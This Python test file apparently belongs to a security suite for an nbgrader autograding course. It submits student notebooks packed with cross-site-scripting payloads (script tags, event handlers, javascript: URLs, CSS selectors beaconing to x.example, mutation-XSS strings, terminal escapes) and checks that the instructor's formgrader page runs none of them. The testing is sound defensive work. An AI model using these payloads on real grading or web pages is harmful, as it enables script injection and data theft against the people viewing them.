"""Attacks on those who look at the results: script, addresses and styles in outputs and answers."""

# ruff: noqa: E501 - what an attack sends reads best in one piece

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import nbformat
import nbgrader
import pytest
from nbconvert.exporters import HTMLExporter
from traitlets.config import PyFileConfigLoader

from tests.security.attacks import Attack

pytestmark = pytest.mark.xdist_group("security")  # they share one graded class

STEAL = "steal()"
HTML = {
    "script": f"<script>{STEAL}</script><SCRIPT SRC=//x.example/x.js></SCRIPT><scr<script>ipt>{STEAL}",
    "event-handlers": f"<img src=x onerror={STEAL}><svg onload={STEAL}><body onload={STEAL}>"
    f"<details open ontoggle={STEAL}><b onmouseover='{STEAL}'>x</b><input autofocus onfocus={STEAL}>",
    "addresses": f"<a href='javascript:{STEAL}'>x</a><a href=' &#106;avascript:{STEAL}'>x</a>"
    f"<a href='data:text/html,<script>{STEAL}</script>'>x</a><a href='vbscript:{STEAL}'>x</a>",
    "frames": f"<iframe srcdoc='<script>{STEAL}</script>'></iframe><object data='javascript:{STEAL}'></object>"
    f"<embed src=x><frameset onload={STEAL}><portal src=x></portal>",
    "redirection": "<meta http-equiv=refresh content='0;url=https://x.example'><base href='//x.example/'>",
    "styles": "<style>input[value^=a]{background:url(//x.example/a)}</style>"
    "<p style='background:url(//x.example)'>x</p><link rel=stylesheet href=//x.example/x.css>",
    "forms": f"<form action=//x.example><input name=csrf><button formaction='javascript:{STEAL}'>x</button></form>",
    "pictures": "<img src=//x.example/me.png srcset='//x.example/2 2x'><video poster=//x.example autoplay>"
    "<audio src=//x.example><picture><source srcset=//x.example/3></picture><input type=image src=//x.example>",
    "drawings": f"<svg><script>{STEAL}</script><a xlink:href='javascript:{STEAL}'>x</a><animate onbegin={STEAL}>"
    f"<foreignObject><iframe src='javascript:{STEAL}'></iframe></foreignObject><use href=//x.example/#x></svg>",
    "confusion": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={STEAL}&gt;'>"
    f"<noscript><p title='</noscript><img src=x onerror={STEAL}>'><template><script>{STEAL}</script></template>",
    "escape-from-the-page": f"</pre></samp></div></main></body></html><script>{STEAL}</script><!--",
}  # fmt: skip
PICTURES = {
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{STEAL}'><script>{STEAL}</script></svg>",
    "image/png": f"x' onerror='{STEAL}",
    "image/jpeg": f'x" onerror="{STEAL}',
    "application/javascript": STEAL,
    "text/latex": f"$\\href{{javascript:{STEAL}}}{{x}}$ <script>{STEAL}</script>",
    "text/markdown": f"[x](javascript:{STEAL}) <img src=x onerror={STEAL}>",
    "text/plain": f"<script>{STEAL}</script>",
    "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{STEAL}</script>"},
    "application/vnd.plotly.v1+json": {"x": f"<script>{STEAL}</script>"},
    f"text/<script>{STEAL}</script>": "x",
}


def write(text: str):
    """Write the essay, a text cell of the student's and one named by markup."""

    def edit(notebook):
        essay = notebook["cells"][-1]
        essay["source"] = text
        name = {"nbgrader": {"grade_id": text[:200], "schema_version": 3, "solution": True}}
        notebook["cells"] += [
            {"cell_type": "markdown", "metadata": {}, "source": text, "id": "one"},
            {"cell_type": "markdown", "metadata": name, "source": text, "id": "two"},
        ]

    return edit


ATTACKS = [
    *(
        Attack(
            f"page-{name}",
            f"Shows and writes HTML with {name.replace('-', ' ')}; what it could do is taken out.",
            f"from IPython.display import HTML, display\ntext = {html!r}\ndisplay(HTML(text))\nprint(text)\n"
            "attempt(lambda: 1 / 0)\nclass Bad(Exception): pass\n"
            "Bad.__name__ = text[:200]\ndef double(*_): raise Bad(text)\nscale = apply = Total = double",
            edit=write(html),
        )
        for name, html in HTML.items()
    ),
    *(
        Attack(
            f"display-{number}",
            f"Shows script as {mime.split('<')[0]}; the page shows it as a picture or as text.",
            f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True)",
            right=True,
        )
        for number, (mime, content) in enumerate(PICTURES.items())
    ),
    Attack(
        "formulas-and-links",
        "Writes Markdown whose links, formulas and references run script; it is cleaned when rendered.",
        edit=write(
            f"[x](javascript:{STEAL}) [y]: javascript:{STEAL}\n\n[y] <javascript:{STEAL}> ![x](//x.example/x)\n\n"
            f"$\\href{{javascript:{STEAL}}}{{x}}$ $$\\style{{background:url(//x.example)}}{{x}}$$\n\n"
            f"`<script>{STEAL}</script>` $<script>{STEAL}</script>$ ![x](attachment:x.png)\n\n"
            f"```<script>{STEAL}</script>\nx\n```\n\n&lt;script&gt;{STEAL}&lt;/script&gt;"
        ),
        right=True,
    ),
    Attack(
        "terminal-escapes",
        "Prints and raises escape sequences for terminals, and links made of them.",
        """
text = "\\x1b]8;;javascript:steal()\\x07x\\x1b]8;;\\x07 \\x1b[2J \\x1b]0;mine\\x07 \\x9b31m \\u202e"
print(text)
def double(*_): raise ValueError(text)
scale = apply = Total = double
""",
        earns=1.0,  # a ValueError is right for one test
    ),
    Attack(
        "deep-html",
        "Shows HTML nested so deep that cleaning it would take minutes; it is shown as text.",
        "from IPython.display import HTML, display\ndisplay(HTML('<div>' * 20_000))",
        edit=write("<div>" * 100_000),
        right=True,
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_fails(attack, graded):
    graded.check(attack)


class Scripts(HTMLParser):
    """The scripts that a browser would run of a page that has some of its own."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.inside, self.found = False, []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.inside = tag == "script"
        for name, value in attributes:
            runs = name.startswith("on") or (value or "").strip().lower().startswith("javascript:")
            if runs and STEAL in (value or ""):
                self.found.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag):
        self.inside = False

    def handle_data(self, data):
        if self.inside and STEAL in data:
            self.found.append(data)


@pytest.fixture(scope="module")
def formgrader(graded):
    """What makes nbgrader's own page, by which the instructor's browser shows a notebook."""
    templates = Path(nbgrader.__file__).parent / "server_extensions/formgrader/templates"
    config = PyFileConfigLoader("nbgrader_config.py", path=str(graded.course)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(templates)]
    return HTMLExporter(config=config)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_fails_in_formgrader_too(attack, graded, formgrader):
    names = ("assignment_id", "notebook_id", "submission_id", "student", "first_name", "last_name")
    resources = dict.fromkeys((*names, "notebook_path"), "x") | {
        "index": 0,
        "total": 1,
        "base_url": "/",
    }
    path = graded.course / f"grading/autograded/{attack.name}/toy/toy.ipynb"
    notebook = nbformat.read(path, as_version=4)
    page, _ = formgrader.from_notebook_node(notebook, resources=resources)
    assert Scripts(page).found == []
